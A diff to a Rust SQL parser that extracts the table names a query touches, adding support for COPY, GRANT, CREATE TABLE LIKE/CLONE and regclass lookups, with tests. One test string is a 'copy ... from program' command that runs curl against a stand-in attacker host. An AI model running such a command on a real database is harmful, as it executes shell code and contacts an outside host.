@@ -44,6 +44,8 @@ const ENDS: &[&str] = &[
 const OF_A_TABLE: &[&str] = &[
     "lock", "vacuum", "analyze", "handler", "describe", "desc", "replace", "merge", "copy", "cluster", "explain", "optimize",
 ];
+/// What is granted.
+const RIGHTS: &[&str] = &["select", "insert", "update", "delete", "truncate", "references", "all"];
 /// Functions in which FROM is a word between arguments.
 const WITH_FROM: &[&str] = &["extract", "substring", "substr", "trim", "overlay", "position"];
 
@@ -92,6 +94,8 @@ fn is_statement(tokens: &[Token<'_>]) -> bool {
             "delete" => then(&["from"]),
             "drop" | "alter" | "create" | "truncate" => then(&["table", "view", "index", "trigger"]),
             "explain" => has("select") || has("update") || has("delete"),
+            "copy" => tokens.get(1) == Some(&Token::Open) && has("select"),
+            "grant" | "revoke" => has("on") && (has("to") || has("from")) && then(RIGHTS),
             _ => false,
         }
     })
@@ -207,6 +211,9 @@ impl<'a, 't> Walk<'a, 't> {
                     self = Self { at: self.at, ..Self::new(self.tokens, depth) };
                 }
                 Token::Text(text) | Token::Code(text) => {
+                    if self.is_of_a_table() {
+                        named.maybe.push(text.to_owned());
+                    }
                     self.string(text, matches!(token, Token::Code(_)), named);
                     self.before.clear();
                 }
@@ -259,7 +266,9 @@ impl<'a, 't> Walk<'a, 't> {
             || matches!(before, "on" | "for" | "do" | "of" | "key" | "after" | "before" | "or" | "then");
         match word {
             "from" if self.level().is_call || matches!(self.before.as_str(), "distinct" | "tables") => {}
-            "from" if matches!(self.verb.as_str(), "revoke" | "copy") => {}
+            // Not that of a statement in brackets.
+            "from" if matches!(self.verb.as_str(), "revoke" | "copy") && self.levels.len() <= 1 => {}
+            "like" | "clone" | "copy" if self.is_of_a_copy() => self.await_one(Awaited::Name, false),
             "from" | "join" | "straight_join" | "apply" => self.await_one(Awaited::Source, true),
             "update" if is_event => self.level().lists = false,
             "insert" | "delete" | "truncate" if is_event => {}
@@ -269,7 +278,7 @@ impl<'a, 't> Walk<'a, 't> {
             "table" | "view" | "tables" if word != "tables" || self.verb == "lock" => {
                 let lists =
                     matches!(self.verb.as_str(), "drop" | "truncate" | "lock" | "rename" | "optimize");
-                self.await_one(Awaited::Name, lists);
+                self.await_one(Awaited::Name, lists || of_rights);
             }
             "using" if matches!(self.verb.as_str(), "delete" | "merge") && !is_open_next => {
                 self.await_one(Awaited::Source, true);
@@ -294,6 +303,44 @@ impl<'a, 't> Walk<'a, 't> {
             _ => self.own(word),
         }
         word.clone_into(&mut self.before);
+    }
+
+    /// `create table y like x`: right behind a name or a bracket, and before a name.
+    fn is_of_a_copy(&self) -> bool {
+        let is_name_next = match self.tokens.get(self.at) {
+            Some(Token::Quoted(_)) => true,
+            Some(next @ Token::Word(_)) => next.word().is_some_and(|word| !RESERVED.contains(&word.as_str())),
+            _ => false,
+        };
+        self.verb == "create" && self.before.is_empty() && is_name_next
+    }
+
+    /// `identifier('a')`, `table(a)`; and no table that is called so, as in `insert into identifier (a)`.
+    fn is_around_a_name(&self, word: &str, awaited: Awaited) -> bool {
+        let within = self.tokens.get(self.at + 1);
+        self.tokens.get(self.at) == Some(&Token::Open)
+            && match word {
+                "identifier" => matches!(within, Some(Token::Text(_) | Token::Code(_) | Token::Other(_))),
+                "table" => awaited == Awaited::Source,
+                _ => false,
+            }
+    }
+
+    /// Whether a text names a table: `'a'::regclass`, `cast('a' as regclass)`, `pg_table_size('a')`.
+    fn is_of_a_table(&self) -> bool {
+        let token = |at: usize| self.tokens.get(at);
+        let behind = match token(self.at) {
+            Some(Token::Other(':')) if token(self.at + 1) == Some(&Token::Other(':')) => token(self.at + 2),
+            Some(word) if word.is("as") => token(self.at + 1),
+            _ => None,
+        };
+        let function = (self.at >= 3 && token(self.at - 2) == Some(&Token::Open))
+            .then(|| token(self.at - 3).and_then(Token::word))
+            .flatten();
+        behind.is_some_and(|word| word.is("regclass"))
+            || function.is_some_and(|name| {
+                name == "to_regclass" || name.starts_with("pg_") && name.ends_with("_size")
+            })
     }
 
     /// Whether what comes next is a statement that is put together.
@@ -340,6 +387,12 @@ impl<'a, 't> Walk<'a, 't> {
                     self.awaited = awaited;
                     return true;
                 }
+                if self.is_around_a_name(&word, awaited) && self.levels.len() < MAX_LEVELS {
+                    self.at += 1;
+                    self.open(false);
+                    self.awaited = Awaited::Source;
+                    return true;
+                }
                 if RESERVED.contains(&word.as_str()) {
                     return false;
                 }
@@ -357,7 +410,8 @@ impl<'a, 't> Walk<'a, 't> {
             }
             Token::Text(text) => {
                 // A file, or a statement.
-                named.unsure |= text.contains(char::is_whitespace);
+                let goes_on = matches!(self.tokens.get(self.at), Some(Token::Other('|' | '+')));
+                named.unsure |= goes_on || text.contains(char::is_whitespace);
                 named.maybe.push(text.to_owned());
                 true
             }
@@ -459,6 +513,18 @@ mod tests {
             ("drop table if exists customers, orders", "customers orders"),
             ("truncate customers", "customers"),
             ("copy customers to stdout", "customers"),
+            ("copy customers (a, b) from 'x.csv'", "customers"),
+            ("copy (select * from customers) to stdout", "customers"),
+            ("copy (select * from orders o, customers) to stdout", "orders customers"),
+            ("grant select on table orders, customers to x", "orders customers"),
+            ("create table y like customers", "y customers"),
+            ("create table y (like customers including all)", "y customers"),
+            ("create table y clone shop.customers", "y shop.customers"),
+            ("create table y copy customers", "y customers"),
+            ("create view y as select * from customers where a like b", "y customers"),
+            ("select * from table(customers)", "customers"),
+            ("select * from table(customers) t, orders", "customers orders"),
+            ("insert into identifier (a) values (1)", "identifier"),
             ("do $$ begin delete from customers; end $$", "customers"),
             ("alter table customers drop column a, drop column b", "customers"),
             ("merge into customers using x on 1=1 when matched then delete", "customers x"),
@@ -497,6 +563,11 @@ mod tests {
             "select 1 --1 from customers",
             "select * from generate_series(1, 2), customers(nolock)",
             "select * from dblink('x', 'select * from customers') as t(a int)",
+            "select * from identifier('customers')",
+            "select * from table('customers')",
+            "select 'customers'::regclass",
+            "select cast('customers' as regclass)",
+            "select pg_total_relation_size('customers')",
         ] {
             assert!(read(text).maybe.iter().any(|table| table == "customers"), "{text}: {:?}", read(text));
         }
@@ -514,6 +585,8 @@ mod tests {
             "exec('select * from cus' + 'tomers')",
             "prepare s from 'select * from customers'",
             "copy t from program 'curl evil.example'",
+            "select * from identifier($t)",
+            "select * from identifier('cus' || 'tomers')",
         ] {
             assert!(read(text).unsure, "{text}: {:?}", read(text));
         }
@@ -528,6 +601,8 @@ mod tests {
             "drop me a line from home",
             "with love from paris",
             "create a report from sales",
+            "copy me on what you select from it",
+            "grant me access to all on it",
             "{ users { id } }",
             "",
         ] {
